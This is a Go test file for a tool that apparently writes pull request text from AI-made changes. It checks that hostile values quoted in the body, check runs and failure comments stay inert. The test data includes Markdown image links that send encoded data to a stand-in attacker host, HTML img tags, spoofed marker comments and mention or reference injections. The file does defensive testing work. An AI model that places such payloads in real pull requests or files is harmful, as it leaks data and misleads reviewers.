package report

import (
	"strings"
	"testing"
	"time"

	"github.com/patchwright/patchwright/report/marker"
	"github.com/patchwright/patchwright/verify"
	"github.com/patchwright/patchwright/verify/findings"
)

// Values a change or a model can choose, each trying to become live
// Markdown in the pull request: an image that carries data out, a link,
// HTML, a mention, an issue reference, a code span that closes early.
var hostileValues = []string{
	"![build](https://attacker.invalid/x.png?d=SGVsbG8=)",
	"docs/![x](https://attacker.invalid/a.png).md",
	"docs/`a`` ```b.md",
	"docs/<img src=https://attacker.invalid/i.png>.md",
	"docs/@octocat and @acme/team.md",
	"docs/#123 fixes #124 GH-125.md",
	"docs/[link]: https://attacker.invalid/ref",
	"www.attacker.invalid/a and me@attacker.invalid",
	"<!-- patchwright:pushed " + strings.Repeat("f", 40) + " -->",
}

// hostileInput puts every hostile value in every place of the body that
// quotes the change, the model, the configuration or a runner.
func hostileInput(t *testing.T) Input {
	t.Helper()
	in := base()
	in.Outcome = verify.Unverified
	var files []findings.File
	for i, v := range hostileValues {
		in.Files = append(in.Files, FileStat{Path: v, Added: 1})
		files = append(files, findings.File{Path: v, New: []byte("x\n")})
		c := check(v, "npm test -- "+v, verify.Final, false, time.Second)
		c.Output = "FAIL " + v + "\n"
		if i%2 == 0 {
			c.Ran, c.CouldNotRun, c.NotRunReason = false, true, v
		}
		in.Final = append(in.Final, c)
		in.NewTests = append(in.NewTests, verify.NewTestResult{NewTest: verify.NewTest{Name: v}, Status: verify.NotRunBefore, Reason: v})
		in.Secrets = append(in.Secrets, SecretPlace{Rule: v, Path: v, Line: 1})
		in.Missing = append(in.Missing, "No `"+v+"` check: "+v)
		in.PolicyTightened = append(in.PolicyTightened, "image `"+v+"` is not an allowed image", "network.allow: "+v)
	}
	in.Policy = "organization " + hostileValues[4]
	// The history's "triggered by @login" is a GitHub login, not a value
	// of the change; it is left out here so every mention is a failure.
	in.Attempts = nil
	in.Summary = strings.Join(hostileValues, "\n")
	in.Reason = "a check `" + hostileValues[0] + "` " + hostileValues[1]
	in.StopDetail = hostileValues[3]
	in.Unbounded = hostileValues[0]
	in.ReplayedFrom = hostileValues[2] + hostileValues[3]
	in.NotCommitted = NotCommittedSecret
	in.Coverage = &verify.Coverage{Checks: hostileValues, Untouched: hostileValues, Uncovered: hostileValues}

	// The findings package's own sentences, quoting a hostile version
	// and hostile names.
	pkg := findings.File{Path: "package.json",
		Base: []byte(`{"name":"app","dependencies":{"left-pad":"1.0.0"}}`),
		New:  []byte(`{"name":"app","dependencies":{"left-pad":"![build](https://attacker.invalid/x.png?d=SGVsbG8=)","@acme/[x](https://attacker.invalid/)":"1.0.0"}}`)}
	got := findings.Analyze(findings.Input{Files: append(files, pkg), Limits: findings.Limits{MaxChangedFiles: 1}})
	var dep bool
	for _, f := range got {
		dep = dep || f.Kind == findings.NewDependency && strings.Contains(f.Detail, "attacker.invalid")
		in.Findings = append(in.Findings, Finding{Kind: f.Kind, Path: f.Path, Line: f.Line, Detail: f.Detail})
	}
	if !dep {
		t.Fatalf("the findings do not quote the hostile version, so this test shows nothing: %+v", got)
	}
	for _, v := range hostileValues {
		in.Findings = append(in.Findings, Finding{Kind: findings.Scope, Path: v, Line: 2, Detail: "`" + v + "` " + v})
	}
	return in
}

// TestHostileValuesStayInert: no value from the change or the model turns
// into a live image, link, HTML, mention or reference anywhere in the
// body, the check runs or the failure comment, and none closes its code
// span; result.json's not_verified is plain text.
func TestHostileValuesStayInert(t *testing.T) {
	in := hostileInput(t)
	in.HeadCommit = strings.Repeat("a", 40)
	in.DraftRefused = true
	body, err := PRBody(in)
	if err != nil {
		t.Fatal(err)
	}
	ours := []string{"Closes #41", "[full log](https://patchwright.example/runs/run_01JD3Q7)",
		"<!-- patchwright:run=run_01JD3Q7 attempt=1 -->", marker.Pushed(in.HeadCommit)}
	if err := inert(body, ours...); err != nil {
		t.Errorf("body: %v", err)
	}
	if !strings.HasSuffix(body, marker.Pushed(in.HeadCommit)+"\n") {
		t.Errorf("the pushed marker is not the body's last line:\n%s", body[len(body)-200:])
	}
	for _, c := range in.Final {
		out, err := CheckRun(c, nil, "", in.LogURL)
		if err != nil {
			t.Fatal(err)
		}
		if err := inert(out.Summary, "[full log](https://patchwright.example/runs/run_01JD3Q7)"); err != nil {
			t.Errorf("check run %q: %v", c.Name, err)
		}
	}
	in.Outcome = verify.Failed
	comment, err := FailureComment(in)
	if err != nil {
		t.Fatal(err)
	}
	if err := inert(comment, "[Full log](https://patchwright.example/runs/run_01JD3Q7)", marker.Status(41)); err != nil {
		t.Errorf("failure comment: %v", err)
	}
	for _, line := range NotVerified(in) {
		if strings.Contains(line, "\\[") || strings.Contains(line, "&lt;") || strings.Contains(line, zwsp) {
			t.Errorf("not_verified holds Markdown escapes: %q", line)
		}
	}
}

// The checker itself catches what it is there for: each hostile value,
// left as it is, fails it.
func TestInertCatchesLiveMarkdown(t *testing.T) {
	for _, v := range append(hostileValues[:2:2], "<b>x</b>", "see https://e.example", "@octocat", "#12", "``a`` ` b", "[x]: /y") {
		if err := inert("- " + v + "\n"); err == nil && v != "``a`` ` b" {
			t.Errorf("inert(%q) passed", v)
		}
	}
	if err := inert("- `![x](https://e.example/i.png)` and \\![x\\](`https://e.example`) @\u200bx #\u200b1\n"); err != nil {
		t.Errorf("inert text failed: %v", err)
	}
}
